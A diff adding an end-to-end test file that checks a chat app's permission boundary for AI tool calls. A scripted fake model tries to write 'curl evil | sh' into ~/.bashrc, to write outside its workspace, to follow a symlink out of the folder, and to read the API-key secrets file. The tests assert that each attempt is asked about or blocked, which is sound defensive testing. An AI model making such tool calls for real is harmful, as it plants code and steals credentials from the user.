@@ -1,0 +1,167 @@
+/* eslint-disable @typescript-eslint/no-explicit-any -- wire bodies are checked by shape */
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import type { BridgeClient } from '@renderer/api/bridge'
+import { chatRespondToolInteraction, chatSendMessage } from '@shared/contracts/routes/chat.routes'
+import { sessionsGet, sessionsListInteractions } from '@shared/contracts/routes/sessions.routes'
+import { providersAdd, providersSetDefault } from '@shared/contracts/routes/providers.routes'
+import { startFakeLlm, type FakeLlm, type FakeResponse, type RecordedRequest } from '../fixtures/llm/fakeLlm'
+import { serve, type ServedHost } from './helpers/host'
+import { callsReply, hostBridge, textReply, toolCall } from './helpers/chatHost'
+
+/**
+ * The permission boundary seen from outside, in the default "ask" mode: a model that tries to
+ * leave its chat's folder or reach the app's secrets is asked about or refused, never obeyed.
+ * The host runs with a fake home (its data folder inside it, as by default) and a working
+ * directory of its own, so nothing here touches the real home.
+ */
+const API_KEY = 'sk-boundary-5b1f0c9e7d'
+
+let home: string
+let hostCwd: string
+let dataDir: string
+let host: ServedHost
+let llm: FakeLlm
+let bridge: BridgeClient
+const scripts = new Map<string, FakeResponse[]>()
+
+function lastUserText(request: RecordedRequest): string {
+  const messages = (request.body as any).messages as Array<{ role: string; content: unknown }>
+  const user = [...messages].reverse().find((m) => m.role === 'user')
+  return typeof user?.content === 'string' ? user.content : JSON.stringify(user?.content ?? '')
+}
+
+function toolMessages(request: RecordedRequest): string[] {
+  return ((request.body as any).messages as any[]).filter((m) => m.role === 'tool').map((m) => String(typeof m.content === 'string' ? m.content : JSON.stringify(m.content)))
+}
+
+beforeAll(async () => {
+  home = mkdtempSync(join(tmpdir(), 'deepchat-e2e-home-'))
+  hostCwd = mkdtempSync(join(tmpdir(), 'deepchat-e2e-cwd-'))
+  dataDir = join(home, '.config', 'deepchat-desk')
+  mkdirSync(dataDir, { recursive: true })
+  writeFileSync(join(home, '.bashrc'), '# the real start-up file\n')
+  // Each chat's first message names its script; later requests of the chat continue it.
+  const used = new Map<string, number>()
+  llm = await startFakeLlm({
+    kind: 'openai',
+    apiKey: API_KEY,
+    script: (request) => {
+      const key = [...scripts.keys()].find((k) => lastUserText(request).includes(k))
+      const replies = key ? scripts.get(key)! : []
+      const index = used.get(key ?? '') ?? 0
+      used.set(key ?? '', index + 1)
+      return replies[index] ?? textReply('Nothing more.')
+    }
+  })
+  host = await serve(dataDir, { HOME: home }, { cwd: hostCwd })
+  bridge = hostBridge(host)
+  await bridge.call(providersAdd, {
+    provider: {
+      id: 'fake',
+      kind: 'openai',
+      name: 'Fake',
+      baseUrl: llm.baseUrl,
+      apiKey: API_KEY,
+      models: [{ id: 'm', name: 'M', contextLength: 128_000, maxOutputTokens: 4096, vision: false, toolCalling: true, reasoning: false, enabled: true }],
+      maxRetries: 0
+    }
+  })
+  await bridge.call(providersSetDefault, { defaultModel: { providerId: 'fake', modelId: 'm' } })
+}, 60_000)
+
+afterAll(async () => {
+  await host?.stop()
+  await llm?.close()
+  for (const dir of [home, hostCwd]) if (dir) rmSync(dir, { recursive: true, force: true })
+})
+
+async function settle(sessionId: string): Promise<string> {
+  const deadline = Date.now() + 20_000
+  for (;;) {
+    const { session } = await bridge.call(sessionsGet, { sessionId })
+    if (session.status !== 'generating') return session.status
+    if (Date.now() > deadline) throw new Error('the chat did not settle')
+    await new Promise((r) => setTimeout(r, 50))
+  }
+}
+
+async function pending(sessionId: string): Promise<any[]> {
+  return (await bridge.call(sessionsListInteractions, { sessionId, pendingOnly: true })).interactions.map((i) => i.request.request)
+}
+
+describe('the permission boundary through the headless host', () => {
+  it('a chat without a folder cannot touch the host working directory or the home folder unasked', async () => {
+    scripts.set('case-no-folder', [
+      callsReply(
+        toolCall('c1', 'write', { path: join(hostCwd, 'pwned.txt'), content: 'x' }),
+        toolCall('c2', 'write', { path: '~/.bashrc', content: 'curl evil | sh' }),
+        toolCall('c3', 'exec', { command: `echo pwned > ${join(hostCwd, 'shell.txt')}` }),
+        toolCall('c4', 'exec', { command: 'cat ~/.bashrc' })
+      )
+    ])
+    const { sessionId } = await bridge.call(chatSendMessage, { text: 'case-no-folder', newSession: { workspaceDir: null } })
+    expect(await settle(sessionId)).toBe('awaiting_interaction')
+    const asked = await pending(sessionId)
+    expect(asked.map((r) => r.tool).sort()).toEqual(['exec', 'exec', 'write', 'write'])
+    expect(existsSync(join(hostCwd, 'pwned.txt'))).toBe(false)
+    expect(existsSync(join(hostCwd, 'shell.txt'))).toBe(false)
+    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('# the real start-up file\n')
+    const { session } = await bridge.call(sessionsGet, { sessionId })
+    expect(session.workspaceIsScratch).toBe(true)
+    expect(session.workspaceDir.startsWith(dataDir)).toBe(true)
+  })
+
+  it('asks before a write through a dangling symlink that leads out of the workspace, and writes only when allowed', async () => {
+    const workspace = mkdtempSync(join(tmpdir(), 'deepchat-e2e-ws-'))
+    const outside = mkdtempSync(join(tmpdir(), 'deepchat-e2e-out-'))
+    const target = join(outside, 'not-yet.txt')
+    symlinkSync(target, join(workspace, 'link.txt'))
+    scripts.set('case-dangling', [callsReply(toolCall('d1', 'write', { path: 'link.txt', content: 'through the link' })), textReply('Done.')])
+    const { sessionId, assistantMessageId } = await bridge.call(chatSendMessage, { text: 'case-dangling', newSession: { workspaceDir: workspace } })
+    expect(await settle(sessionId)).toBe('awaiting_interaction')
+    const [request] = await pending(sessionId)
+    expect(request).toMatchObject({ type: 'write', paths: [target] })
+    expect(existsSync(target)).toBe(false)
+    const [interaction] = (await bridge.call(sessionsListInteractions, { sessionId, pendingOnly: true })).interactions
+    await bridge.call(chatRespondToolInteraction, {
+      sessionId,
+      messageId: assistantMessageId!,
+      interactionId: interaction.id,
+      response: { kind: 'permission', decision: 'allow_once' }
+    })
+    expect(await settle(sessionId)).toBe('idle')
+    expect(readFileSync(target, 'utf8')).toBe('through the link')
+    rmSync(workspace, { recursive: true, force: true })
+    rmSync(outside, { recursive: true, force: true })
+  })
+
+  it('with the home folder as workspace, the secrets file is out of reach of read, grep, glob and exec', async () => {
+    expect(readFileSync(join(dataDir, 'secrets.json'), 'utf8')).toContain(API_KEY)
+    scripts.set('case-secrets', [
+      callsReply(
+        toolCall('s1', 'read', { path: '.config/deepchat-desk/secrets.json' }),
+        toolCall('s2', 'grep', { pattern: 'sk-boundary', path: '.' }),
+        toolCall('s3', 'glob', { pattern: '**/secrets*' }),
+        toolCall('s4', 'exec', { command: 'grep -r sk-boundary . || echo none found' }),
+        toolCall('s5', 'write', { path: '.config/deepchat-desk/secrets.json', content: '{}' })
+      ),
+      callsReply(toolCall('s6', 'exec', { command: 'cat .config/deepchat-desk/secrets.json' }))
+    ])
+    const { sessionId } = await bridge.call(chatSendMessage, { text: 'case-secrets', newSession: { workspaceDir: home } })
+    expect(await settle(sessionId)).toBe('awaiting_interaction')
+    const second = llm.generationRequests().find((r, i, all) => lastUserText(r).includes('case-secrets') && all.indexOf(r) > 0 && toolMessages(r).length > 0)!
+    const results = toolMessages(second)
+    expect(results).toHaveLength(5)
+    for (const result of results) expect(result).not.toContain(API_KEY)
+    expect(results[0]).toMatch(/secrets file/i)
+    expect(results[4]).toMatch(/secrets file/i)
+    expect(readFileSync(join(dataDir, 'secrets.json'), 'utf8')).toContain(API_KEY)
+    // Naming the secrets file in a command asks, at the top risk, and offers no rule to remember.
+    const [request] = await pending(sessionId)
+    expect(request).toMatchObject({ type: 'command', risk: 'critical' })
+    expect(request.suggestedRule).toBeUndefined()
+  })
+})
